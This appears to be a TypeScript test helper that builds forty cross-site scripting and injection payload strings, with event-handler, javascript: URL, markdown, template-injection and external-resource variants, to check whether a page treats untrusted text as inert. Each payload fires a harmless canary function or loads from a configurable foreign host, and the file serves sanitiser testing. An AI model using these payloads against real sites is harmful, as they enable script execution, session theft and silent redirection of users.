/**
 * Forty texts that would run, load or break something if any page took them for more than text. Each calls `parleyHit`, puts a
 * `data-hit` element into the page or asks `foreign` for something. Each ends with a number of its own.
 */
export function payloads(foreign: string): string[] {
  const hit = 'parleyHit()';
  return [
    `<script>${hit}</script>`,
    `"><script src="${foreign}/a.js"></script>`,
    `<img src=x onerror=${hit}>`,
    `<img src="${foreign}/pixel.png" data-hit>`,
    `<svg onload=${hit}><rect data-hit /></svg>`,
    `<svg><script>${hit}</script></svg>`,
    `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<iframe src="javascript:${hit}"></iframe>`,
    `<a href="javascript:${hit}" data-hit>press</a>`,
    `[press](javascript:${hit})`,
    `[press](JaVaScRiPt&#58;${hit})`,
    `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `![picture](${foreign}/md.png)`,
    `<body onload=${hit}>`,
    `<details open ontoggle=${hit} data-hit>`,
    `<input autofocus onfocus=${hit}>`,
    `<video><source onerror=${hit}></video>`,
    `<audio src=x onerror=${hit}>`,
    `<math><mtext><img src=x onerror=${hit}></mtext></math>`,
    `</textarea><script>${hit}</script>`,
    `</title></style></script><script>${hit}</script>`,
    `<style>@import "${foreign}/a.css";</style>`,
    `<link rel=stylesheet href="${foreign}/b.css">`,
    `<base href="${foreign}/">`,
    `<meta http-equiv=refresh content="0;url=${foreign}/gone">`,
    `<form action="${foreign}/form"><button data-hit>send</button></form>`,
    `<object data="${foreign}/o"></object>`,
    `<embed src="${foreign}/e">`,
    `<template><img src=x onerror=${hit}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
    `<!--<img src="--><img src=x onerror=${hit}>`,
    `&lt;script&gt;${hit}&lt;/script&gt;`,
    `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
    `\${${hit}}`,
    `{{constructor.constructor('${hit}')()}}`,
    `'-${hit}-'`,
    `";${hit};//`,
    `\`+${hit}+\``,
    `<x-hit data-hit style="background:url(${foreign}/bg)">`,
    `<marquee onstart=${hit} data-hit>`,
  ].map((text, i) => `${text} no${i + 1}.`);
}
